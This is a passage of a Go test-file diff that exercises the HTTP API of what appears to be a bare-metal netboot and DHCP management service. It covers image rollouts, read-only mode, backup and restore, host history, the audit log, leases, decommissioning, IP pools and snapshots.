+		{name: "put missing image", method: http.MethodPut, path: "/api/v1/rollouts/ipa-2", body: `{"percent":10,"images":{"ipa-kernel":"ipa-kernel-3"}}`, want: http.StatusBadRequest},
+		{name: "put invalid percent", method: http.MethodPut, path: "/api/v1/rollouts/ipa-2", body: `{"percent":200,"images":{"ipa-kernel":"ipa-kernel-2"}}`, want: http.StatusBadRequest},
+		{name: "put", method: http.MethodPut, path: "/api/v1/rollouts/ipa-2", body: `{"match":{"rack":"r1"},"percent":0,"images":{"ipa-kernel":"ipa-kernel-2"}}`, want: http.StatusCreated, checkIn: true},
+		{name: "raise percent", method: http.MethodPost, path: "/api/v1/rollouts/ipa-2/percent", body: `{"percent":100}`, want: http.StatusOK, checkIn: true, wantIn: true},
+		{name: "get", method: http.MethodGet, path: "/api/v1/rollouts/ipa-2", want: http.StatusOK, checkIn: true, wantIn: true},
+		{name: "rollback", method: http.MethodPost, path: "/api/v1/rollouts/ipa-2/rollback", want: http.StatusOK, checkIn: true},
+		{name: "promote", method: http.MethodPost, path: "/api/v1/rollouts/ipa-2/promote", want: http.StatusNoContent},
+		{name: "get promoted", method: http.MethodGet, path: "/api/v1/rollouts/ipa-2", want: http.StatusNotFound},
+		{name: "rollback missing", method: http.MethodPost, path: "/api/v1/rollouts/ipa-2/rollback", want: http.StatusNotFound},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			req := httptest.NewRequest(tt.method, tt.path, strings.NewReader(tt.body))
+			rec := httptest.NewRecorder()
+			h.ServeHTTP(rec, req)
+			if rec.Code != tt.want {
+				t.Fatalf("status = %d, want %d: %s", rec.Code, tt.want, rec.Body.String())
+			}
+			if !tt.checkIn {
+				return
+			}
+			var got rolloutResponse
+			if err := json.NewDecoder(rec.Body).Decode(&got); err != nil {
+				t.Fatalf("decode error = %v", err)
+			}
+			in := len(got.CanaryHosts) == 1
+			if in != tt.wantIn || len(got.CanaryHosts)+len(got.StableHosts) != 1 {
+				t.Errorf("canary hosts = %v, stable hosts = %v", got.CanaryHosts, got.StableHosts)
+			}
+		})
+	}
+
+	img, err := images.Get("ipa-kernel")
+	if err != nil || img.URL != "https://x/ipa-2/vmlinuz" {
+		t.Errorf("ipa-kernel after promotion = %+v, %v", img, err)
+	}
+}
+
+func TestWhoami(t *testing.T) {
+	h := newTestHandler(t)
+
+	req := httptest.NewRequest(http.MethodGet, "/api/v1/whoami", nil)
+	rec := httptest.NewRecorder()
+	h.ServeHTTP(rec, req)
+	if rec.Code != http.StatusNotFound {
+		t.Fatalf("status without auth = %d, want %d", rec.Code, http.StatusNotFound)
+	}
+
+	principal := &adminauth.Principal{Provider: "oidc", Subject: "1234", Role: adminauth.RoleViewer}
+	req = req.WithContext(adminauth.WithPrincipal(req.Context(), principal))
+	rec = httptest.NewRecorder()
+	h.ServeHTTP(rec, req)
+	var got adminauth.Principal
+	if err := json.NewDecoder(rec.Body).Decode(&got); err != nil {
+		t.Fatalf("decode error = %v", err)
+	}
+	if got.Subject != "1234" || got.Role != adminauth.RoleViewer {
+		t.Errorf("whoami = %+v, want subject 1234 with role viewer", got)
+	}
+}
+
+func TestReadOnly(t *testing.T) {
+	hosts, err := hoststate.NewStore("")
+	if err != nil {
+		t.Fatalf("NewStore() error = %v", err)
+	}
+	h := New(slog.New(slog.DiscardHandler), &config.Config{}, nil, nil, hosts, nil, nil, nil, readonly.New(true), nil, nil, nil, nil, nil, nil, nil, nil)
+	kernelArgs := "/api/v1/systems/aa:bb:cc:dd:ee:ff/kernel-args"
+
+	tests := []struct {
+		name   string
+		method string
+		path   string
+		body   string
+		want   int
+	}{
+		{name: "read", method: http.MethodGet, path: kernelArgs, want: http.StatusOK},
+		{name: "write", method: http.MethodPut, path: kernelArgs, body: `{"add":["debug"]}`, want: http.StatusForbidden},
+		{name: "delete", method: http.MethodDelete, path: kernelArgs, want: http.StatusForbidden},
+		{name: "disable", method: http.MethodPut, path: readOnlyPath, body: `{"enabled":false}`, want: http.StatusOK},
+		{name: "write after disable", method: http.MethodPut, path: kernelArgs, body: `{"add":["debug"]}`, want: http.StatusOK},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			req := httptest.NewRequest(tt.method, tt.path, strings.NewReader(tt.body))
+			rec := httptest.NewRecorder()
+			h.ServeHTTP(rec, req)
+			if rec.Code != tt.want {
+				t.Fatalf("status = %d, want %d: %s", rec.Code, tt.want, rec.Body.String())
+			}
+		})
+	}
+}
+
+func TestBackup(t *testing.T) {
+	hosts, err := hoststate.NewStore("")
+	if err != nil {
+		t.Fatalf("NewStore() error = %v", err)
+	}
+	dir := t.TempDir()
+	if err := os.WriteFile(filepath.Join(dir, "hosts.json"), []byte("{}"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	backups := &backup.Archiver{Sources: []backup.Source{{Name: "state", Path: dir}}}
+	h := New(slog.New(slog.DiscardHandler), &config.Config{}, nil, nil, hosts, nil, nil, nil, nil, backups, nil, nil, nil, nil, nil, nil, nil)
+
+	rec := httptest.NewRecorder()
+	h.ServeHTTP(rec, httptest.NewRequest(http.MethodGet, "/api/v1/backup", nil))
+	if rec.Code != http.StatusOK || rec.Header().Get("Content-Type") != "application/gzip" {
+		t.Fatalf("backup = %d %s, want a gzip archive", rec.Code, rec.Header().Get("Content-Type"))
+	}
+	archive := rec.Body.Bytes()
+
+	rec = httptest.NewRecorder()
+	h.ServeHTTP(rec, httptest.NewRequest(http.MethodPost, "/api/v1/restore", bytes.NewReader(archive)))
+	if rec.Code != http.StatusOK {
+		t.Fatalf("restore status = %d, want %d: %s", rec.Code, http.StatusOK, rec.Body.String())
+	}
+
+	rec = httptest.NewRecorder()
+	h.ServeHTTP(rec, httptest.NewRequest(http.MethodPost, "/api/v1/restore", strings.NewReader("junk")))
+	if rec.Code != http.StatusBadRequest {
+		t.Errorf("restore junk status = %d, want %d", rec.Code, http.StatusBadRequest)
+	}
+}
+
+func TestDHCPStats(t *testing.T) {
+	rec := httptest.NewRecorder()
+	newTestHandler(t).ServeHTTP(rec, httptest.NewRequest(http.MethodGet, "/api/v1/dhcp/stats", nil))
+	if rec.Code != http.StatusNotFound {
+		t.Errorf("status without DHCP = %d, want %d", rec.Code, http.StatusNotFound)
+	}
+
+	hosts, err := hoststate.NewStore("")
+	if err != nil {
+		t.Fatalf("NewStore() error = %v", err)
+	}
+	stats := metric.NewDHCPStats(nil)
+	stats.RecordReply(dhcpv4.MessageTypeOffer)
+	h := New(slog.New(slog.DiscardHandler), &config.Config{}, nil, nil, hosts, nil, nil, nil, nil, nil, nil, stats, nil, nil, nil, nil, nil)
+
+	rec = httptest.NewRecorder()
+	h.ServeHTTP(rec, httptest.NewRequest(http.MethodGet, "/api/v1/dhcp/stats", nil))
+	var got metric.DHCPSnapshot
+	if err := json.NewDecoder(rec.Body).Decode(&got); err != nil {
+		t.Fatal(err)
+	}
+	if rec.Code != http.StatusOK || got.OffersPerMinute != 1 {
+		t.Errorf("stats = %d %+v, want 200 with one offer", rec.Code, got)
+	}
+}
+
+func TestHistory(t *testing.T) {
+	h := newTestHandler(t)
+	base := "/api/v1/systems/aa:bb:cc:dd:ee:ff"
+	do := func(method, path, body string) *httptest.ResponseRecorder {
+		rec := httptest.NewRecorder()
+		h.ServeHTTP(rec, httptest.NewRequest(method, path, strings.NewReader(body)))
+		return rec
+	}
+
+	if rec := do(http.MethodGet, base+"/history", ""); rec.Code != http.StatusOK ||
+		strings.TrimSpace(rec.Body.String()) != "[]" {
+		t.Fatalf("history of a new host = %d %s, want 200 []", rec.Code, rec.Body)
+	}
+	do(http.MethodPut, base+"/metadata", `{"rack":"r1"}`)
+	do(http.MethodPut, base+"/metadata/rack", `"r2"`)
+
+	var history []hoststate.Revision
+	rec := do(http.MethodGet, base+"/history", "")
+	if err := json.NewDecoder(rec.Body).Decode(&history); err != nil {
+		t.Fatalf("decode error = %v", err)
+	}
+	if len(history) != 3 || history[2].Actor != "api" ||
+		history[2].Settings.Metadata["rack"] != "r2" {
+		t.Fatalf("history = %+v, want 3 revisions ending with rack r2", history)
+	}
+
+	rec = do(http.MethodPost, base+"/history/2/revert", "")
+	if rec.Code != http.StatusOK {
+		t.Fatalf("revert status = %d, want 200: %s", rec.Code, rec.Body)
+	}
+	rec = do(http.MethodGet, base+"/metadata", "")
+	if got := strings.TrimSpace(rec.Body.String()); got != `{"rack":"r1"}` {
+		t.Errorf("metadata after revert = %s, want rack r1", got)
+	}
+
+	for path, want := range map[string]int{
+		base + "/history/9/revert": http.StatusNotFound,
+		base + "/history/x/revert": http.StatusBadRequest,
+	} {
+		if rec := do(http.MethodPost, path, ""); rec.Code != want {
+			t.Errorf("POST %s = %d, want %d", path, rec.Code, want)
+		}
+	}
+}
+
+func TestAudit(t *testing.T) {
+	rec := httptest.NewRecorder()
+	newTestHandler(t).ServeHTTP(rec, httptest.NewRequest(http.MethodGet, "/api/v1/audit", nil))
+	if rec.Code != http.StatusNotFound {
+		t.Errorf("status without audit log = %d, want %d", rec.Code, http.StatusNotFound)
+	}
+
+	hosts, err := hoststate.NewStore("")
+	if err != nil {
+		t.Fatalf("NewStore() error = %v", err)
+	}
+	log, err := audit.Open(audit.Options{
+		FileOptions: logging.FileOptions{Path: filepath.Join(t.TempDir(), "audit.jsonl")},
+	})
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer log.Close()
+	h := log.Middleware(
+		New(slog.New(slog.DiscardHandler), &config.Config{}, nil, nil, hosts, nil, nil, nil, nil, nil, nil, nil, nil, log, nil, nil, nil),
+	)
+
+	for _, mac := range []string{"aa:bb:cc:dd:ee:01", "aa:bb:cc:dd:ee:02"} {
+		rec := httptest.NewRecorder()
+		h.ServeHTTP(rec, httptest.NewRequest(http.MethodPut, "/api/v1/machines/"+mac+"/netboot",
+			strings.NewReader(`{"enabled": false}`)))
+		if rec.Code != http.StatusOK {
+			t.Fatalf("PUT netboot = %d: %s", rec.Code, rec.Body)
+		}
+	}
+	rec = httptest.NewRecorder()
+	h.ServeHTTP(rec, httptest.NewRequest(http.MethodPut, "/api/v1/machines/aa:bb:cc:dd:ee:01/netboot",
+		strings.NewReader(`{"enabled": true}`)))
+
+	rec = httptest.NewRecorder()
+	h.ServeHTTP(rec, httptest.NewRequest(http.MethodGet, "/api/v1/audit?mac=aa-bb-cc-dd-ee-01", nil))
+	var got page[audit.Entry]
+	if err := json.NewDecoder(rec.Body).Decode(&got); err != nil {
+		t.Fatal(err)
+	}
+	if rec.Code != http.StatusOK || got.Total != 2 {
+		t.Fatalf("GET audit = %d %+v, want 2 entries", rec.Code, got)
+	}
+	e := got.Items[0]
+	if e.Method != http.MethodPut || e.Status != http.StatusOK ||
+		string(e.Old) != `{"enabled":false}` || string(e.New) != `{"enabled":true}` {
+		t.Errorf("newest entry = %+v", e)
+	}
+
+	rec = httptest.NewRecorder()
+	h.ServeHTTP(rec, httptest.NewRequest(http.MethodGet, "/api/v1/audit?since=yesterday", nil))
+	if rec.Code != http.StatusBadRequest {
+		t.Errorf("status with bad since = %d, want %d", rec.Code, http.StatusBadRequest)
+	}
+}
+
+func TestLeaseDB(t *testing.T) {
+	rec := httptest.NewRecorder()
+	newTestHandler(t).ServeHTTP(rec, httptest.NewRequest(http.MethodGet, "/api/v1/dhcp/leases", nil))
+	if rec.Code != http.StatusNotFound {
+		t.Errorf("status without lease database = %d, want %d", rec.Code, http.StatusNotFound)
+	}
+
+	hosts, err := hoststate.NewStore("")
+	if err != nil {
+		t.Fatalf("NewStore() error = %v", err)
+	}
+	leases, err := leasedb.Open("", leasedb.Options{})
+	if err != nil {
+		t.Fatal(err)
+	}
+	ip := netip.MustParseAddr("10.0.0.10")
+	macA, _ := net.ParseMAC("aa:bb:cc:dd:ee:01")
+	macB, _ := net.ParseMAC("aa:bb:cc:dd:ee:02")
+	if _, err := leases.Ack(macA, ip, "node-1", time.Hour); err != nil {
+		t.Fatal(err)
+	}
+	if _, err := leases.Offer(macB, ip, ""); !errors.Is(err, leasedb.ErrConflict) {
+		t.Fatalf("Offer() error = %v, want %v", err, leasedb.ErrConflict)
+	}
+	h := New(slog.New(slog.DiscardHandler), &config.Config{}, nil, nil, hosts, nil, nil, nil, nil,
+		nil, nil, nil, nil, nil, leases, nil, nil)
+
+	rec = httptest.NewRecorder()
+	h.ServeHTTP(rec, httptest.NewRequest(http.MethodGet, "/api/v1/dhcp/leases?conflict=true", nil))
+	var got page[leasedb.Lease]
+	if err := json.NewDecoder(rec.Body).Decode(&got); err != nil {
+		t.Fatal(err)
+	}
+	if rec.Code != http.StatusOK || got.Total != 1 || got.Items[0].MAC != macB.String() {
+		t.Fatalf("GET leases in conflict = %d %+v, want the offer to %s", rec.Code, got, macB)
+	}
+
+	rec = httptest.NewRecorder()
+	h.ServeHTTP(rec, httptest.NewRequest(http.MethodGet, "/api/v1/dhcp/leases/aa-bb-cc-dd-ee-01", nil))
+	var l leasedb.Lease
+	if err := json.NewDecoder(rec.Body).Decode(&l); err != nil {
+		t.Fatal(err)
+	}
+	if rec.Code != http.StatusOK || l.State != leasedb.StateBound || l.Hostname != "node-1" {
+		t.Errorf("GET lease = %d %+v, want the bound lease of node-1", rec.Code, l)
+	}
+
+	rec = httptest.NewRecorder()
+	h.ServeHTTP(rec, httptest.NewRequest(http.MethodGet, "/api/v1/dhcp/leases?state=leased", nil))
+	if rec.Code != http.StatusBadRequest {
+		t.Errorf("status with unknown state = %d, want %d", rec.Code, http.StatusBadRequest)
+	}
+}
+
+func TestDecommission(t *testing.T) {
+	rec := httptest.NewRecorder()
+	newTestHandler(t).ServeHTTP(rec,
+		httptest.NewRequest(http.MethodPost, "/api/v1/machines/aa:bb:cc:dd:ee:01/decommission", nil))
+	if rec.Code != http.StatusNotFound {
+		t.Errorf("status without decommissioning = %d, want %d", rec.Code, http.StatusNotFound)
+	}
+
+	hosts, err := hoststate.NewStore("")
+	if err != nil {
+		t.Fatalf("NewStore() error = %v", err)
+	}
+	tasks, err := task.New("")
+	if err != nil {
+		t.Fatal(err)
+	}
+	d := &decommission.Decommissioner{Hosts: hosts, Tasks: tasks, Log: logr.Discard()}
+	h := New(slog.New(slog.DiscardHandler), &config.Config{}, nil, nil, hosts, nil, nil, nil, nil,
+		nil, nil, nil, nil, nil, nil, d, nil)
+
+	rec = httptest.NewRecorder()
+	h.ServeHTTP(rec, httptest.NewRequest(http.MethodGet, "/api/v1/machines/aa:bb:cc:dd:ee:01/decommission", nil))
+	if rec.Code != http.StatusNotFound {
+		t.Errorf("status before a decommission = %d, want %d", rec.Code, http.StatusNotFound)
+	}
+
+	rec = httptest.NewRecorder()
+	h.ServeHTTP(rec, httptest.NewRequest(http.MethodPost, "/api/v1/machines/aa:bb:cc:dd:ee:01/decommission", nil))
+	if rec.Code != http.StatusAccepted {
+		t.Fatalf("POST decommission = %d %s, want %d", rec.Code, rec.Body, http.StatusAccepted)
+	}
+
+	var info task.Info
+	for range 100 {
+		rec = httptest.NewRecorder()
+		h.ServeHTTP(rec, httptest.NewRequest(http.MethodGet, "/api/v1/machines/aa:bb:cc:dd:ee:01/decommission", nil))
+		if err := json.NewDecoder(rec.Body).Decode(&info); err != nil {
+			t.Fatal(err)
+		}
+		if info.Finished() {
+			break
+		}
+		time.Sleep(10 * time.Millisecond)
+	}
+	if info.State != task.StateCompleted {
+		t.Fatalf("decommission task = %+v, want it completed", info)
+	}
+	mac, _ := net.ParseMAC("aa:bb:cc:dd:ee:01")
+	if host, err := hosts.Get(mac); err != nil || host.State != hoststate.StateRetired {
+		t.Errorf("host = %+v, %v, want it retired", host, err)
+	}
+}
+
+func TestPools(t *testing.T) {
+	rec := httptest.NewRecorder()
+	newTestHandler(t).ServeHTTP(rec, httptest.NewRequest(http.MethodGet, "/api/v1/dhcp/pools", nil))
+	if rec.Code != http.StatusNotFound {
+		t.Errorf("status without a pool backend = %d, want %d", rec.Code, http.StatusNotFound)
+	}
+
+	hosts, err := hoststate.NewStore("")
+	if err != nil {
+		t.Fatalf("NewStore() error = %v", err)
+	}
+	b, err := dnsmasq.NewBackend(logr.Discard(), dnsmasq.Config{
+		RootDir:           t.TempDir(),
+		AutoAssignEnabled: true,
+		IPPoolStart:       "192.168.1.100",
+		IPPoolEnd:         "192.168.1.199",
+		Pools: []dnsmasq.Pool{
+			{Name: "rack-b", Subnet: "10.20.0.0/24", Start: "10.20.0.100", End: "10.20.0.149"},
+		},
+	})
+	if err != nil {
+		t.Fatalf("NewBackend() error = %v", err)
+	}
+	defer b.Close()
+	h := New(slog.New(slog.DiscardHandler), &config.Config{}, b, nil, hosts, b.ConfigManager(), nil, nil, nil, nil, nil, nil, nil, nil, nil, nil, nil)
+
+	rec = httptest.NewRecorder()
+	h.ServeHTTP(rec, httptest.NewRequest(http.MethodGet, "/api/v1/dhcp/pools", nil))
+	var got []dnsmasq.PoolUsage
+	if err := json.NewDecoder(rec.Body).Decode(&got); err != nil {
+		t.Fatal(err)
+	}
+	if rec.Code != http.StatusOK || len(got) != 2 || got[1].Name != "rack-b" || got[1].Size != 50 ||
+		got[1].Subnet != "10.20.0.0/24" {
+		t.Errorf("GET pools = %d %+v, want the default pool and rack-b", rec.Code, got)
+	}
+}
+
+func TestSnapshot(t *testing.T) {
+	rec := httptest.NewRecorder()
+	newTestHandler(t).ServeHTTP(rec, httptest.NewRequest(http.MethodGet, "/api/v1/snapshot", nil))
+	if rec.Code != http.StatusNotFound {
+		t.Errorf("GET without snapshots = %d, want 404", rec.Code)
+	}
+
+	hosts, err := hoststate.NewStore("")
+	if err != nil {
+		t.Fatal(err)
+	}
+	mac := net.HardwareAddr{0xd8, 0x3a, 0xdd, 0, 0, 1}
+	if err := hosts.SetState(mac, hoststate.StateCleaned, "wiped"); err != nil {
+		t.Fatal(err)
+	}
+	h := New(slog.New(slog.DiscardHandler), &config.Config{}, nil, nil, hosts, nil, nil, nil, nil,
+		nil, nil, nil, nil, nil, nil, nil, &snapshot.Caches{Hosts: hosts, Version: "test"})
+
+	rec = httptest.NewRecorder()
+	h.ServeHTTP(rec, httptest.NewRequest(http.MethodGet, "/api/v1/snapshot", nil))
+	if rec.Code != http.StatusOK {
+		t.Fatalf("GET snapshot = %d %s", rec.Code, rec.Body)
+	}
+	s, err := snapshot.Read(rec.Body)
+	if err != nil {
+		t.Fatalf("Read() error = %v", err)
+	}
+	if s.Version != "test" || len(s.Hosts) != 1 || s.Hosts[0].State != hoststate.StateCleaned {
+		t.Errorf("snapshot = %+v, want the cleaned host", s)
+	}
+}